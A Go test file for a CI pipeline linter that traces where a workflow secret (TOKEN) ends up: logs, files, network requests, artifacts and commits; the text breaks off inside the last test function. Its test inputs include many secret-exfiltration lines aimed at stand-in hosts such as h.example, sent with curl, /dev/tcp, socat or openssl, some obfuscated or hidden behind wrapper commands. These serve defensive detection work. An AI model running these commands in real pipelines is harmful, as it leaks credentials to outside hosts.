package pipeline_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/policyctl/policyctl/internal/lint"
	"github.com/policyctl/policyctl/internal/parse/azure"
	"github.com/policyctl/policyctl/internal/parse/circleci"
	"github.com/policyctl/policyctl/internal/parse/gitlab"
	"github.com/policyctl/policyctl/internal/pipeline"
	"github.com/policyctl/policyctl/internal/pipeline/pipelinetest"
)

// jobOf makes a workflow of one job, with TOKEN as a variable of the job.
func jobOf(lines string) string {
	return "on: push\njobs:\n  a:\n    runs-on: x\n    env:\n      TOKEN: ${{ secrets.KEY }}\n    steps:\n" + indent(lines, "      ")
}

// script makes a workflow of one script, with TOKEN as its variable.
func script(lines string) string {
	return "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - env:\n          TOKEN: ${{ secrets.KEY }}\n        run: |\n" + indent(lines, "          ")
}

type parser func([]*lint.Source) ([]*lint.Document, []lint.Finding)

// followedIn lists the flows of a file of any platform.
func followedIn(t *testing.T, path, text string, parse parser) []string {
	t.Helper()
	src := &lint.Source{Path: path, Data: []byte(text)}
	docs, findings := parse([]*lint.Source{src})
	if len(docs) != 1 || len(findings) > 0 {
		t.Fatalf("got %d documents, findings %v", len(docs), findings)
	}
	return pipelinetest.Flows(t, pipeline.Link(docs[0], nil), map[string]*lint.Source{src.Path: src})
}

func indent(lines, by string) string {
	var b strings.Builder
	for _, line := range strings.Split(strings.TrimSuffix(lines, "\n"), "\n") {
		fmt.Fprintf(&b, "%s%s\n", by, line)
	}
	return b.String()
}

func TestFlowsOfScripts(t *testing.T) {
	tests := []struct {
		name, script string
		want         []string
	}{
		{"echo", `echo "key: $TOKEN"`, []string{"log by echo KEY masked=yes at $TOKEN"}},
		{"a pasted secret", `echo ${{ secrets.B }}`, []string{"log by echo B masked=yes at ${{ secrets.B }}"}},
		{"an assignment", "A=$TOKEN\nB=\"x$A\"\necho $B", []string{"log by echo KEY masked=yes at $B"}},
		{"a substring", `echo ${TOKEN:0:4}`, []string{"log by echo KEY +substring masked=no at ${TOKEN:0:4}"}},
		{"a cut prefix", `echo "${TOKEN#ghp_}"`, []string{"log by echo KEY +substring masked=no at ${TOKEN#ghp_}"}},
		{"another case", `echo "${TOKEN^^}"`, []string{"log by echo KEY +case masked=no at ${TOKEN^^}"}},
		{"a default", `echo "${TOKEN:-none}"`, []string{"log by echo KEY masked=yes at ${TOKEN:-none}"}},
		{"a secret as default", `echo "${OTHER:-$TOKEN}"`, []string{"log by echo KEY masked=yes at ${OTHER:-$TOKEN}"}},
		{"an indirection", "NAME=TOKEN\necho ${!NAME}", []string{"log by echo KEY masked=yes at ${!NAME}"}},
		{"an array", "A=(x \"$TOKEN\")\necho \"${A[@]}\"", []string{"log by echo KEY masked=yes at ${A[@]}"}},
		{"printf", `printf 'key %s\n' "$TOKEN"`, []string{"log by printf KEY masked=yes at $TOKEN"}},
		{"printf into a variable", "printf -v A %s \"$TOKEN\"\necho $A", []string{"log by echo KEY masked=yes at $A"}},
		{"a command substitution", "A=$(echo $TOKEN | rev)\necho $A", []string{"log by echo KEY +reverse masked=no at $A"}},
		{"backquotes", "A=`echo $TOKEN | cut -c1-3`\necho $A", []string{"log by echo KEY +substring masked=no at $A"}},
		{"base64, which is masked", `echo -n "$TOKEN" | base64`, []string{"log by base64 KEY +base64 masked=yes at base64"}},
		{"base64 and back", `echo "$TOKEN" | base64 | base64 -d`, []string{"log by base64 KEY +base64 +decoded masked=no at base64"}},
		{"a field", `echo "$TOKEN" | jq -r .password`, []string{"log by jq KEY +json masked=no at jq"}},
		{"names, lengths and types", "echo \"$TOKEN\" | jq -r 'keys[]'\necho \"$TOKEN\" | jq type\necho \"$TOKEN\" | jq 'has(\"a\")'\necho \"$TOKEN\" | jq '.items | length'\necho \"$TOKEN\" | yq '.a | keys | .[0]'", nil},
		{"values beside names", "echo \"$TOKEN\" | jq '.a, (.b | keys | .[])'\necho \"$TOKEN\" | jq '. as $x | keys | $x'\necho \"$TOKEN\" | jq '\"x | keys | \\(.a)\"'\necho \"$TOKEN\" | jq . keys",
			[]string{"log by jq KEY +json masked=no at jq", "log by jq KEY +json masked=no at jq", "log by jq KEY +json masked=no at jq", "log by jq KEY +json masked=no at jq"}},
		{"a folder that is copied", "echo $TOKEN > out/key.txt\ncp -r out dist\ncut -c1 dist/key.txt", []string{
			"file by echo KEY path=out/key.txt at $TOKEN", "file by cp KEY path=dist/key.txt at cp", "log by cut KEY +substring masked=no at cut",
		}},
		{"files that are copied by a pattern", "echo $TOKEN > out/key.txt\ncp out/*.txt dist/\ncp out/*.md site/\ncut -c1 dist/key.txt\ncut -c1 site/key.txt", []string{
			"file by echo KEY path=out/key.txt at $TOKEN", "file by cp KEY path=dist/key.txt at cp", "log by cut KEY +substring masked=no at cut",
		}},
		{"names of all variables", "python3 -c 'import os; print(\"TOKEN\" in os.environ)'\npython3 -c 'import os; print(sorted(os.environ))'\nnode -e 'console.log(Object.keys(process.env))'\nnode -e 'console.log(\"TOKEN\" in process.env)'", nil},
		{"values by all names", "python3 -c 'import os; print([os.environ[k] for k in sorted(os.environ)])'\npython3 -c 'import os; print(os.environ)'",
			[]string{"log by os.environ KEY masked=yes likely at os.environ", "log by os.environ KEY masked=yes likely at os.environ"}},
		{"decoded to a file", "echo -n \"$TOKEN\" | base64 --decode -o \"$RUNNER_TEMP/cert.p12\"\necho \"$TOKEN\" | base64 -D --output=b\necho \"$TOKEN\" | openssl base64 -d -A -out c\ncut -c1 c\necho \"$TOKEN\" | base64 -d -o /dev/stdout", []string{
			"file by base64 KEY +decoded path=$RUNNER_TEMP/cert.p12 at base64", "file by base64 KEY +decoded path=b at base64", "file by openssl KEY +decoded path=c at openssl",
			"log by cut KEY +decoded +substring masked=no at cut", "log by base64 KEY +decoded masked=no at base64",
		}},
		{"hex", `printf %s "$TOKEN" | xxd -p`, []string{"log by xxd KEY +hex masked=no at xxd"}},
		{"a heredoc", "cat <<EOF\nkey $TOKEN\nEOF", []string{"log by cat KEY masked=yes at $TOKEN"}},
		{"a variable of awk", "awk -v t=\"$TOKEN\" 'BEGIN{print t}'", []string{"argv by awk KEY at $TOKEN", "log by awk KEY masked=yes at awk"}},
		{"a part of a variable of awk", "awk -v t=\"$TOKEN\" 'BEGIN{print substr(t, 1, 3)}'", []string{"argv by awk KEY at $TOKEN", "log by awk KEY +substring masked=no at awk"}},
		{"a variable that awk only compares", "awk -v t=\"$TOKEN\" '$1 == t {print $2}' users\nawk -v t=\"$TOKEN\" 'BEGIN{print length(t), \"t\"}'", []string{"argv by awk KEY at $TOKEN", "argv by awk KEY at $TOKEN"}},
		{"the environment of awk", `awk 'BEGIN{print ENVIRON["TOKEN"]; print toupper(ENVIRON["TOKEN"])}'`, []string{"log by awk KEY masked=yes at awk", "log by awk KEY +case masked=no at awk"}},
		{"a part by jq", "jq -n '$ENV.TOKEN[0:4]'\njq -n 'env.TOKEN | length'", []string{"log by jq KEY +substring masked=no at jq"}},
		{"all variables by jq", "jq -n env", []string{"log by jq env KEY masked=yes at jq"}},
		{"what node prints", "node -p 'process.env.TOKEN'\nnode -p 'process.env.TOKEN.length'", []string{"log by print KEY masked=yes likely at TOKEN"}},
		{"a client of TLS", "echo \"$TOKEN\" | openssl s_client -quiet -connect h.example:443\necho \"$TOKEN\" | socat - TCP:h.example:80", []string{"network by openssl KEY host=h.example at $TOKEN", "network by socat KEY host=h.example at $TOKEN"}},
		{"a Secret that is printed", "kubectl create secret generic x --from-literal=a=$TOKEN --dry-run=client -o yaml", []string{"argv by kubectl KEY at $TOKEN", "log by kubectl KEY +base64 masked=yes at kubectl"}},
		{"a Secret that is applied", "kubectl create secret generic x --from-literal=a=$TOKEN --dry-run=client -o yaml | kubectl apply -f -\nkubectl get pods -o yaml", []string{"argv by kubectl KEY at $TOKEN"}},
		{"a quoted heredoc", "cat <<'EOF'\nkey $TOKEN\nEOF", nil},
		{"a herestring", "cat <<< \"$TOKEN\"", []string{"log by cat KEY masked=yes at $TOKEN"}},
		{"lines that are folded", `echo $TOKEN | fold -w1`, []string{"log by fold KEY +substring masked=no at fold"}},
		{"lines that something is put before", "echo $TOKEN | sed 's/^/key: /'\necho $TOKEN | awk '{print}'\necho $TOKEN | tr '\\n' ' '", []string{"log by sed KEY masked=yes at $TOKEN", "log by awk KEY masked=yes at $TOKEN", "log by tr KEY masked=yes at $TOKEN"}},
		{"lines that something is put into", `echo $TOKEN | sed 's/./& /g'`, []string{"log by sed KEY +replace masked=no at sed"}},
		{"characters that are read", "while read -n1 c; do echo $c; done <<< \"$TOKEN\"", []string{"log by echo KEY +substring masked=no at $c"}},
		{"lines that are read as they are", "while IFS= read -r c; do echo $c; done <<< \"$TOKEN\"\necho $IFS", []string{"log by echo KEY masked=yes at $c"}},
		{"parts that are read", "IFS=- read -ra P <<< \"$TOKEN\"\necho ${P[0]}", []string{"log by echo KEY +substring masked=no at ${P[0]}"}},
		{"parts of a loop", "IFS=.; for p in $TOKEN; do echo $p; done", []string{"log by echo KEY +substring masked=no at $p"}},
		{"a format that cuts", "printf '%.5s %-9s|' $TOKEN x", []string{"log by printf KEY +substring masked=no at $TOKEN"}},
		{"a text of jq", "jq -Rr @base64 <<< $TOKEN\njq -R explode <<< $TOKEN\njq -R . <<< $TOKEN", []string{"log by jq KEY +base64 masked=yes at jq", "log by jq KEY +jq masked=no at jq", "log by jq KEY +to_json masked=yes at jq"}},
		{"what reads what tee writes", "echo $TOKEN | tee >(rev) > /dev/null", []string{"log by rev KEY +reverse masked=no at rev"}},
		{"a connection of the shell", "echo $TOKEN > /dev/tcp/h.example/80\nexec 3<>/dev/udp/i.example/53\necho $TOKEN >&3", []string{"network by echo KEY host=h.example at $TOKEN", "network by echo KEY host=i.example at $TOKEN"}},
		{"another descriptor", "exec 3>&1 4>out\necho $TOKEN >&3\necho $TOKEN >&4", []string{"log by echo KEY masked=yes at $TOKEN", "file by echo KEY path=out at $TOKEN"}},
		{"a program that is not known", "echo $TOKEN | mytool\nA=$(mytool <<< $TOKEN)\ncurl -d $A https://h.example", []string{"log by mytool KEY +unknown masked=unknown possible at mytool", "argv by curl KEY +unknown possible at $A", "network by curl KEY +unknown host=h.example possible at $A"}},
		{"what is public of a key", `echo "$TOKEN" | openssl pkey -pubout`, nil},
		{"a cipher", `echo $TOKEN | openssl enc -aes-256-cbc -pass env:P -base64`, nil},
		{"code that xargs fills", `echo $TOKEN | xargs -I{} sh -c 'echo {} | rev'`, []string{"argv by sh KEY at $TOKEN", "eval by sh -c KEY at $TOKEN", "log by rev KEY +reverse masked=no at rev"}},
		{"what other languages read", "echo $TOKEN | python3 -c 'import sys; print(sys.stdin.read()[::-1])'\nruby -e 'puts ARGV[0].chars.join(\" \")' $TOKEN", []string{"log by print KEY +reverse masked=no likely at sys.stdin.read()", "argv by ruby KEY at $TOKEN", "log by print KEY +substring masked=no likely at ARGV[0]"}},
		{"Perl and PHP", "perl -e 'print join(\" \", split(//, $ENV{TOKEN}))'\nphp -r 'echo strrev(getenv(\"TOKEN\"));'", []string{"log by print KEY +substring masked=no likely at TOKEN", "log by print KEY +reverse masked=no likely at TOKEN"}},
		{"a function", "f() { echo \"$1\"; }\nf $TOKEN", []string{"log by echo KEY masked=yes at $1"}},
		{"a branch", "if [ -n \"$TOKEN\" ]; then A=$TOKEN; else A=none; fi\necho $A", []string{"log by echo KEY masked=yes at $A"}},
		{"a loop", "for A in one $TOKEN; do echo $A; done", []string{"log by echo KEY masked=yes at $A"}},
		{"what the round before left", "for i in 1 2; do echo $B; B=$TOKEN; done", []string{"log by echo KEY masked=yes at $B"}},
		{"a subshell", "(A=$TOKEN; echo $A)\necho $A", []string{"log by echo KEY masked=yes at $A"}},
		{"stderr", `echo "$TOKEN" >&2`, []string{"log by echo KEY masked=yes at $TOKEN"}},
		{"a trace", "set -x\ndeploy --force $TOKEN", []string{"log by set -x KEY masked=yes at $TOKEN", "argv by deploy KEY at $TOKEN"}},
		{"a trace that ended", "set -x\nset +x\ntest $TOKEN", nil},
		{"a trace of an option", "set -euxo pipefail\nA=$TOKEN", []string{"log by set -x KEY masked=yes at $TOKEN"}},
		{"a dump", `env`, []string{"log by env KEY masked=yes at env"}},
		{"a dump of names", `env | cut -d= -f1`, nil},
		{"a dump that is searched", `env | grep GITHUB_`, nil},
		{"a dump that is searched for it", `printenv | grep TOKEN`, []string{"log by grep KEY masked=yes at printenv"}},
		{"one variable", `printenv TOKEN`, []string{"log by printenv KEY masked=yes at printenv"}},
		{"export -p", `export -p`, []string{"log by export -p KEY masked=yes at export -p"}},

		{"a test", "[ -z \"$TOKEN\" ] && exit 1\nif [[ -n $TOKEN ]]; then echo set; fi", nil},
		{"whether it is set", `echo ${TOKEN:+set} ${#TOKEN}`, nil},
		{"nowhere", "echo $TOKEN > /dev/null\necho $TOKEN &> /dev/null", nil},
		{"another variable", `echo $OTHER '$TOKEN' \$TOKEN`, nil},
		{"overwritten", "TOKEN=x\necho $TOKEN", nil},
		{"a login by stdin", "echo \"$TOKEN\" | docker login -u me --password-stdin", nil},
		{"a login by a herestring", "gh auth login --with-token <<< \"$TOKEN\"", nil},
		{"a mask", "A=$(echo \"$TOKEN\" | rev)\necho \"::add-mask::$A\"\necho $A", []string{"log by echo KEY +reverse masked=yes at $A"}},

		{"an argument", `deploy --token "$TOKEN"`, []string{"argv by deploy KEY at $TOKEN"}},
		{"a password", `mysql -p$TOKEN -e 'select 1'`, []string{"argv by mysql KEY at $TOKEN"}},
		{"a request", `curl -fsS -H "Authorization: Bearer $TOKEN" https://api.example.com/v1`, []string{"argv by curl KEY at $TOKEN", "network by curl KEY host=api.example.com at $TOKEN"}},
		{"a request whose host is not known", `curl -u me:$TOKEN "https://$HOST/"`, []string{"argv by curl KEY at $TOKEN", "network by curl KEY at $TOKEN"}},
		{"a request from its input", `echo "{\"a\": \"$TOKEN\"}" | curl -d @- https://a.example`, []string{"network by curl KEY host=a.example at $TOKEN"}},
		{"a request in the open", `curl -k "http://a.example/?key=$TOKEN"`, []string{"argv by curl KEY at $TOKEN", "network by curl KEY host=a.example scheme=http in_url unverified at $TOKEN"}},
		{"a passphrase by stdin", `echo $TOKEN | gpg --batch --passphrase-fd 0 -d x.gpg > x`, []string{"file by gpg  path=x at gpg"}},
		{"a hash", `printf %s "$TOKEN" | sha256sum`, nil},
		{"a file that is changed in place", `sed -i "s/KEY/$TOKEN/" app.conf`, []string{"argv by sed KEY at $TOKEN", "file by sed KEY path=app.conf at $TOKEN"}},
		{"a value turned round in Python", `python3 -c 'import os; print(os.environ["TOKEN"][::-1])'`, []string{"log by print KEY +reverse masked=no likely at TOKEN"}},
		{"a variable of Python", "python - <<'EOF'\nimport os\nt = os.getenv('TOKEN')\nprint(f'x {t.upper()}')\nEOF", []string{"log by print KEY +case masked=no likely at t.upper()"}},
		{"functions of Python", "cat > a.py <<'EOF'\nimport os\ndef show(v):\n    print(v)\ndef get():\n    return os.environ['TOKEN']\nshow(get())\nEOF\npython a.py", []string{"log by print KEY masked=yes likely at v"}},
		{"what Python sends", "python - <<'EOF'\nimport os, requests\nheaders = {\n  'X': f'Bearer {os.environ[\"TOKEN\"]}',\n}\nrequests.post('https://h.example/a', headers=headers)\nEOF", []string{"network by requests.post KEY host=h.example likely at headers"}},
		{"a request to two hosts", `curl -H "x: $TOKEN" https://a.example http://b.example`, []string{"argv by curl KEY at $TOKEN", "network by curl KEY host=a.example at $TOKEN", "network by curl KEY host=b.example scheme=http at $TOKEN"}},
		{"a secret in the second address", `wget https://a.example "https://b.example/?k=$TOKEN"`, []string{"argv by wget KEY at $TOKEN", "network by wget KEY host=b.example in_url at $TOKEN"}},
		{"a request after another", `curl -H "x: $TOKEN" https://a.example --next https://b.example`, []string{"argv by curl KEY at $TOKEN", "network by curl KEY host=a.example at $TOKEN"}},
		{"what Python runs", "python - <<'EOF'\nimport os, subprocess\nsubprocess.run(['curl', '-u', 'a:' + os.environ['TOKEN'], 'https://h.example'])\nos.system('echo $TOKEN | rev')\nEOF", []string{"argv by curl KEY likely at TOKEN", "network by curl KEY host=h.example likely at TOKEN", "log by rev KEY +reverse masked=no likely at rev"}},
		{"files of Python", "python - <<'EOF'\nimport os\nwith open('a', 'w') as f:\n    f.write(os.environ['TOKEN'])\nwith open(os.environ['GITHUB_ENV'], 'a') as g:\n    g.write(f\"B={os.environ['TOKEN']}\\n\")\nEOF", []string{"file by write KEY path=a likely at TOKEN", "env_file KEY likely at os.environ['TOKEN']"}},
		{"Python that tells nothing", "python - <<'EOF'\nimport os\nt = os.environ['TOKEN']\n# print(t)\nc = Client(t)\nprint(c, len(t), bool(t), t is None, 'set' if t else 'missing', 'TOKEN', f'{len(t)}')\nif t == 'x': print('no')\nassert t, 'set TOKEN'\nEOF", nil},
		{"JavaScript", "node <<'EOF'\nconst { TOKEN } = process.env;\nconsole.log(Buffer.from(TOKEN).toString('hex'));\nfetch(`https://h.example/${TOKEN}`);\nEOF", []string{"log by print KEY +hex masked=no likely at TOKEN", "network by fetch KEY host=h.example in_url likely at TOKEN"}},
		{"JavaScript that tells nothing", "node <<'EOF'\nconst t = process.env.TOKEN;\n// console.log(t)\nif (!t) { console.log('missing TOKEN') }\nconsole.log(t ? 'set' : 'missing', !!t, t.length, `${typeof t}`);\nEOF", nil},
		{"a runner of Python's", "echo 'import os; print(os.environ[\"TOKEN\"][1:])' > a.py\nuv run a.py", []string{"log by print KEY +substring masked=no likely at TOKEN"}},
		{"an archive", "echo $TOKEN > d/key\ntar czf a.tgz d", []string{"file by echo KEY path=d/key at $TOKEN", "file by tar KEY +gzip path=a.tgz at tar"}},
		{"an archive of something else", "echo $TOKEN > d/key\ntar czf a.tgz e\ntar xzf a.tgz", []string{"file by echo KEY path=d/key at $TOKEN"}},
		{"a commit", "echo $TOKEN > key\ngit add . && git commit -m x", []string{"file by echo KEY path=key at $TOKEN", "repository by git commit KEY path=key at git"}},
		{"a commit of something else", "echo $TOKEN > key\ngit add docs && git commit -m x", []string{"file by echo KEY path=key at $TOKEN"}},
		{"a comment", `gh pr comment 1 --body "$TOKEN"`, []string{"argv by gh KEY at $TOKEN", "repository by gh pr comment KEY at $TOKEN"}},
		{"a secret that gh sets", `gh secret set A --body "$TOKEN"`, []string{"argv by gh KEY at $TOKEN"}},
		{"code of another language", `python3 -c 'import os; print(os.environ["TOKEN"])'`, []string{"log by print KEY masked=yes likely at TOKEN"}},
		{"a process substitution", `cat <(echo $TOKEN)`, []string{"log by cat KEY masked=yes at cat"}},
		{"a shell that traces", `bash -xc 'A=$TOKEN'`, []string{"log by set -x KEY masked=yes at $TOKEN"}},
		{"a container", `docker exec -e TOKEN c sh -c 'echo $TOKEN'`, []string{"log by echo KEY masked=yes at $TOKEN"}},
		{"input line by line", "while read l; do echo $l; done <<< \"$TOKEN\"", []string{"log by echo KEY masked=yes at $l"}},
		{"an answer", "A=$(curl -H \"x: $TOKEN\" https://a.example | jq -r .id)\necho $A", []string{"argv by curl KEY at $TOKEN", "network by curl KEY host=a.example at $TOKEN"}},
		{"a file whose name is computed", "F=$(mktemp)\necho $TOKEN > $F\nG=$(mktemp)\ncat $G\ncat $F", []string{"file by echo KEY path=$(…) at $TOKEN", "log by cat KEY masked=yes at cat"}},
		{"a key that logs in", "echo \"$TOKEN\" > key.pem\nscp -i key.pem app host.example:/srv", []string{"file by echo KEY path=key.pem at $TOKEN"}},
		{"a file that is sent", "echo \"$TOKEN\" > body\ncurl -d @body https://a.example", []string{"file by echo KEY path=body at $TOKEN", "network by curl KEY host=a.example at @body"}},
		{"a noisy request", `curl -sv -u "me:$TOKEN" https://a.example`, []string{"argv by curl KEY at $TOKEN", "network by curl KEY host=a.example at $TOKEN", "log by curl -sv KEY masked=yes likely at $TOKEN"}},
		{"a git URL", `git clone https://me:$TOKEN@git.example.com/a/b`, []string{"argv by git KEY at $TOKEN", "git_remote by git clone KEY host=git.example.com in_url at $TOKEN"}},
		{"a build argument", `docker build --build-arg KEY=$TOKEN .`, []string{"argv by docker KEY at $TOKEN", "image by docker build KEY at $TOKEN"}},
		{"a file", "echo \"$TOKEN\" > key.pem\ncat key.pem", []string{"file by echo KEY path=key.pem at $TOKEN", "log by cat KEY masked=yes at cat"}},
		{"tee", "echo \"$TOKEN\" | tee key.pem > /dev/null", []string{"file by tee KEY path=key.pem at $TOKEN"}},
		{"eval", `eval "deploy $TOKEN"`, []string{"eval by eval KEY at $TOKEN", "argv by deploy KEY at $TOKEN"}},
		{"a shell in a string", `bash -c 'echo "$TOKEN"'`, []string{"log by echo KEY masked=yes at $TOKEN"}},
		{"sudo", `sudo deploy $TOKEN`, []string{"argv by deploy KEY at $TOKEN"}},
		{"an output", `echo "key=$TOKEN" >> $GITHUB_OUTPUT`, []string{"output KEY at $TOKEN"}},
		{"the summary", `echo "$TOKEN" >> "$GITHUB_STEP_SUMMARY"`, []string{"log by $GITHUB_STEP_SUMMARY KEY masked=yes at $TOKEN"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got, doc := pipelinetest.Followed(t, script(test.script), nil)
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
			if gaps := doc.Root.Get("gaps").List(); len(gaps) > 0 {
				t.Errorf("got the gap %q", gaps[0].Get("what").Str())
			}
		})
	}
}

// A command may stand behind others that run it.
func TestFlowsBehindOtherCommands(t *testing.T) {
	const send = `curl -d "$TOKEN" https://h.example`
	for _, lines := range []string{
		"su -c '" + send + "' deploy", `su deploy --command="curl -d '$TOKEN' https://h.example"`, `su - deploy -c "curl -d '$TOKEN' https://h.example"`, "runuser -u deploy -- " + send,
		"sudo -u deploy sh -c '" + send + "'", "doas -u x " + send, "gosu app " + send, "chroot /mnt " + send, "dbus-run-session -- " + send,
		"timeout -k 5s --signal=KILL 10m " + send, "nohup " + send, "flock /tmp/l " + send, "flock -w 5 /tmp/l -c '" + send + "'", "watch -n 1 '" + send + "'",
		"script -qec '" + send + "' out.log", `script -c "curl -d '$TOKEN' https://h.example" /dev/null`,
		"declare -n r=TOKEN\ncurl -d \"$r\" https://h.example", "f() { local -n r=$1; curl -d \"$r\" https://h.example; }\nf TOKEN", "declare -n r=A\nr=$TOKEN\ncurl -d \"$A\" https://h.example",
		`env -S 'curl -d '"$TOKEN"' https://h.example'`, `env --split-string="curl -d $TOKEN https://h.example"`,
		`printf '%s' "$TOKEN" | xargs sh -c 'curl -d "$0" https://h.example'`, `printf '%s' "$TOKEN" | xargs -n1 bash -c 'curl -d "$1" https://h.example' _`,
		`parallel -j 2 curl -d {} https://h.example ::: "$TOKEN"`, `echo "$TOKEN" | parallel curl https://h.example -d`,
		"bash -s -- \"$TOKEN\" <<'EOF'\ncurl -d \"$1\" https://h.example\nEOF", `bash <<<"curl -d '$TOKEN' https://h.example"`,
		`kubectl exec pod -- sh -c "curl -d '$TOKEN' https://h.example"`, "ssh u@h.example <<EOF\nexport X=$TOKEN\nEOF",
	} {
		if got, _ := pipelinetest.Followed(t, script(lines), nil); !slices.ContainsFunc(got, func(f string) bool {
			return strings.HasPrefix(f, "network by") && strings.Contains(f, "host=h.example")
		}) {
			t.Errorf("%s: %q", lines, got)
		}
	}
	for _, lines := range []string{
		"su - deploy -c '" + send + "'", "kubectl exec pod -- sh -c '" + send + "'", "su -c 'curl https://h.example' deploy", "declare -n r=OTHER\ncurl -d \"$r\" https://h.example",
		"script -q out.log", "flock -n 9", "env -S 'curl https://h.example'", "ssh u@h.example <<'EOF'\necho $TOKEN\nEOF", "watch ls",
	} {
		if got, _ := pipelinetest.Followed(t, script(lines), nil); len(got) > 0 {
			t.Errorf("%s: %q", lines, got)
		}
	}
}

// What programs make of a secret is followed as a file.
func TestFlowsThroughFiles(t *testing.T) {
	upload := "      - uses: actions/upload-artifact@v4\n        with: {name: a, path: out/}\n"
	for _, lines := range []string{
		`sed "s/PW/$TOKEN/" app.tmpl > out/a`, `sed -i.bak -e "s|PW|$TOKEN|g" -e 's/a/b/' out/a`, `yq -i ".db.password = \"$TOKEN\"" out/a`, `yq e -i '.db.password = strenv(TOKEN)' out/a`,
		`yq -i '.p = env(TOKEN)' out/a`, `jq --arg p "$TOKEN" '.p = $p' a | sponge out/a`, `jq '.p = env.TOKEN' a > b && mv b out/a`, `perl -pi -e 's/PW/$ENV{TOKEN}/' out/a`,
		`install -D -m 600 /dev/stdin out/k <<< "$TOKEN"`, `echo "$TOKEN" > k; install -m 600 k out/key`, `echo "$TOKEN" | sudo tee -a out/k > /dev/null`, `echo "$TOKEN" > k; cp -t out k`, `echo "$TOKEN" > d/k; cp -r d out`,
		`echo "$TOKEN" > k; ln k out/k`, `echo "$TOKEN" > k; rsync -a k out/`, `helm template app ./chart --set password="$TOKEN" > out/a`, `helm template app ./chart --set-string p=$TOKEN --output-dir out`,
		`echo "p: $TOKEN" > v.yaml; helm template app ./chart -f v.yaml > out/a`, `terraform plan -var "p=$TOKEN" -out=out/plan`, `TF_VAR_p=$TOKEN terraform plan -out out/plan`, `tofu plan -var p=$TOKEN -out=p; tofu show -json p > out/p`,
		`docker build --build-arg T=$TOKEN -t app . && docker save app -o out/app.tar`, `docker build --build-arg T=$TOKEN -t app . ; docker save app | gzip > out/app.tgz`,
		`kubectl create secret generic db --from-literal=p=$TOKEN --dry-run=client -o yaml > out/a`, `kubectl config set-credentials u --token=$TOKEN --kubeconfig=out/config`, `crudini --set out/a db p "$TOKEN"`, `m4 -DPW="$TOKEN" a.m4 > out/a`,
		`echo "$TOKEN" | gpg --dearmor -o out/k`,
	} {
		if got, _ := pipelinetest.Followed(t, script(lines)+upload, nil); !slices.ContainsFunc(got, func(f string) bool { return strings.HasPrefix(f, "artifact") }) {
			t.Errorf("%s: %q", lines, got)
		}
	}
	for _, lines := range []string{
		`sed "s/$TOKEN/***/g" build.log > out/log`, `sed -i "s|$TOKEN|***|" out/log`, `sed 's/PW/x/' a > out/a`, "terraform plan -out=out/plan", "docker build -t app . && docker save app -o out/app.tar",
		`docker build --build-arg T=$TOKEN -t app . ; docker save other -o out/app.tar`, `kubectl create secret generic db --from-literal=p=$TOKEN --dry-run=client -o yaml | kubeseal > out/a`, `echo $TOKEN > k; sops -e k > out/k`,
		`echo "$TOKEN" > d/k; cp -r e out`, `helm template app ./chart > out/a`, `echo "$TOKEN" | sha256sum > out/sum`, `echo "$TOKEN" > k; rsync -a k host:out/`, `yq -i '.p = "x"' out/a`,
	} {
		if got, _ := pipelinetest.Followed(t, script(lines)+upload, nil); slices.ContainsFunc(got, func(f string) bool { return strings.HasPrefix(f, "artifact") }) {
			t.Errorf("%s: %q", lines, got)
		}
	}
}

// The text of a message, a comment or a release is told as what it is.
func TestFlowsIntoMessages(t *testing.T) {
	tests := []struct{ step, want string }{
		{"uses: slackapi/slack-github-action@v2\nwith: {webhook: '${{ secrets.HOOK }}', payload: 'pw ${{ secrets.KEY }}'}", "network by slackapi/slack-github-action KEY host=slack.com"},
		{"uses: rtCamp/action-slack-notify@v2\nenv: {SLACK_WEBHOOK: '${{ secrets.HOOK }}', SLACK_MESSAGE: 'pw ${{ secrets.KEY }}'}", "network by rtCamp/action-slack-notify KEY host=slack.com"},
		{"uses: dawidd6/action-send-mail@v3\nwith: {server_address: smtp.example, password: '${{ secrets.MAIL }}', to: '${{ secrets.TO }}', body: 'pw ${{ secrets.KEY }}'}", "network by dawidd6/action-send-mail KEY host=smtp.example"},
		{"uses: dawidd6/action-send-mail@v3\nwith: {server_address: '${{ vars.S }}', body: 'pw ${{ secrets.KEY }}'}", "network by dawidd6/action-send-mail KEY"},
		{"uses: peter-evans/create-or-update-comment@v4\nwith: {token: '${{ secrets.BOT }}', body: 'pw ${{ secrets.KEY }}'}", "repository by peter-evans/create-or-update-comment KEY"},
		{"uses: softprops/action-gh-release@v2\nwith: {token: '${{ secrets.BOT }}', files: a}", ""},
		{"uses: slackapi/slack-github-action@v2\nwith: {webhook: '${{ secrets.HOOK }}', payload: done}", ""},
		{"env: {T: '${{ secrets.KEY }}'}\nrun: echo \"$T\" | mail -s done ops@h.example", "network by mail KEY host=h.example"},
		{"env: {T: '${{ secrets.KEY }}'}\nrun: echo done | mail -s done ops@h.example", ""},
	}
	for _, test := range tests {
		got, _ := pipelinetest.Followed(t, "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - "+strings.TrimPrefix(indent(test.step, "        "), "        "), nil)
		told := slices.DeleteFunc(got, func(f string) bool { return !strings.HasPrefix(f, "network") && !strings.HasPrefix(f, "repository") })
		if test.want == "" && len(told) > 0 || test.want != "" && (len(told) != 1 || !strings.HasPrefix(told[0], test.want+" ")) {
			t.Errorf("%s\ngot %q, want %q", test.step, told, test.want)
		}
	}
}

func TestFlowsOfPowerShellScriptsOfTheRepository(t *testing.T) {
	files := map[string]string{"d.ps1": "param($Key)\nWrite-Host $env:TOKEN.Substring(0,4)\nWrite-Host $Key.Substring(0,2)\n"}
	for _, test := range []struct{ shell, run, want string }{
		{"pwsh", "./d.ps1", "d.ps1 1"}, {"pwsh", "./d.ps1 -Key $env:TOKEN", "d.ps1 2"}, {"bash", "pwsh ./d.ps1", "d.ps1 1"}, {"bash", "pwsh -File d.ps1 -Key $TOKEN", "d.ps1 2"}, {"pwsh", "./e.ps1", "d.ps1 0"},
	} {
		got, _ := pipelinetest.Followed(t, "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - shell: "+test.shell+"\n        env: {TOKEN: '${{ secrets.KEY }}'}\n        run: "+test.run+"\n", files)
		printed := 0
		for _, flow := range got {
			if strings.HasPrefix(flow, "log by") && strings.Contains(flow, "substring") {
				printed++
			}
		}
		if fmt.Sprint("d.ps1 ", printed) != test.want {
